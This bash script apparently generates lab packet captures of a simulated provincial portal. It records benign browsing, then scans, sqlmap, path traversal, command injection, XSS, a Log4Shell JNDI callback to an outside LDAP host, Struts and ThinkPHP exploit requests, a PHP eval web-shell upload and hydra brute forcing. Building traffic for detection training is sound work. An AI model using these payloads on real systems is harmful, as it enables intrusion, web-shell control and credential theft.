#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# Zone net-portal: the provincial portal www.jt.jianghai.example at 203.0.113.10.
#   192.0.2.30 .45 .150  visitors     192.0.2.53     resolver of the portal
#   198.51.100.20        scanner      198.51.100.77  exploits    198.51.100.130  guessing
#   198.51.100.66        LDAP server that a successful Log4Shell attack calls
. "$(dirname "$0")/lib.sh"
. "$MAKE_DIR/web.sh"
. "$MAKE_DIR/ssh.sh"

PORTAL=203.0.113.10
NAME=www.jt.jianghai.example
DIR=$PCAPS_DIR/net-portal

wire_up "$PORTAL" "192.0.2.30 192.0.2.45 192.0.2.150 192.0.2.53 198.51.100.20 198.51.100.77
    198.51.100.130 198.51.100.66"
web_site $PORTAL $NAME 江海省交通运输厅
ssh_server $PORTAL
serve outside 0 python3 "$MAKE_DIR/dns.py" serve 192.0.2.53 ntp.jianghai.example=192.0.2.10 \
    map.jianghai.example=192.0.2.11 mail.jt.jianghai.example=203.0.113.10
serve outside 1389 python3 "$MAKE_DIR/services.py" talk 198.51.100.66 1389 \
    300c02010161070a010004000400
pause 0.5

record_start "$DIR/01-browse.pcap"
for v in 192.0.2.30 192.0.2.45 192.0.2.150; do
	visit $v $PORTAL $NAME
	visit $v $PORTAL $NAME https
	inside $PORTAL python3 "$MAKE_DIR/dns.py" ask $PORTAL 192.0.2.53 \
	    ntp.jianghai.example map.jianghai.example
done
web_get 192.0.2.30 http://$PORTAL/login -d 'username=operator&password=wrong-once'
web_get 192.0.2.30 http://$PORTAL/login -d 'username=operator&password=Jh-2026-ops'
web_get 192.0.2.45 "http://$PORTAL/download?file=notice.txt"
record_stop

record_start "$DIR/02-scan.pcap"
try outside 198.51.100.20 nmap -n -Pn -sS --top-ports 150 --max-retries 1 \
    -S 198.51.100.20 -e gpc0 $PORTAL
try outside 198.51.100.20 nmap -n -Pn -sT -sV --version-intensity 5 -p 80,443 \
    --script http-title,http-methods,http-robots.txt,http-git $PORTAL
for p in admin backup www.zip .git/HEAD .git/config .env .svn/entries WEB-INF/web.xml \
    actuator/env phpinfo.php phpmyadmin/ manager/html id_rsa db.sql old test api/v1/users \
    druid/index.html console.bak user.txt wp-login.php cgi-bin/test.cgi server-status \
    config.php.bak web.config swagger-ui.html nacos/v1/auth/users solr/admin/; do
	web_get 198.51.100.20 "http://$PORTAL/$p" -A 'gobuster/3.5'
done
record_stop

record_start "$DIR/03-sqlmap.pcap"
try outside 198.51.100.77 sqlmap -u "http://$PORTAL/news?id=1" --batch --flush-session \
    --output-dir="$TMP/sqlmap" --technique=BEU --dbms=sqlite --level=1 --risk=1 --tables
record_stop

record_start "$DIR/04-exploit.pcap"
A=198.51.100.77
web_get $A "http://$PORTAL/download?file=../../data/etc/passwd"
web_get $A "http://$PORTAL/download?file=..%2f..%2f..%2f..%2fetc%2fhostname-none"
web_get $A "http://$PORTAL/ping?host=127.0.0.1%3bid"
web_get $A "http://$PORTAL/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
web_get $A "http://$PORTAL/api/portal" -A '${jndi:ldap://198.51.100.66:1389/a}'
web_get $A "http://$PORTAL/struts/login.action" \
    -H 'Content-Type: %{(#nike="multipart/form-data").(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}' -d x
web_get $A "http://$PORTAL/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=phpinfo"
printf '<?php @eval($_POST["k"]); ?>' >"$TMP/site/a.php"
web_get $A "http://$PORTAL/upload" -F "file=@$TMP/site/a.php;type=image/png;filename=a.php"
web_get $A "http://$PORTAL/uploads/a.php?v=1"
web_get $A "http://$PORTAL/uploads/a.php" -A antSword/v2.1 \
    -d 'k=@eval(base64_decode($_POST[z0]));&z0=cGhwaW5mbygpOw=='
record_stop

record_start "$DIR/05-guess.pcap"
B=198.51.100.130
printf '%s\n' 123456 password admin admin123 jianghai jianghai123 12345678 qwerty letmein \
    Jt@2026 root 111111 000000 abc123 iloveyou Passw0rd >"$TMP/words"
try outside $B hydra -I -q -t 2 -l admin -P "$TMP/words" $PORTAL http-post-form \
    '/login:username=^USER^&password=^PASS^:F=login-failed'
try outside $B hydra -I -q -t 2 -l keeper -P "$TMP/words" http-get://$PORTAL/console/
try outside $B hydra -I -q -t 2 -l root -P "$TMP/words" ssh://$PORTAL
record_stop
wire_down
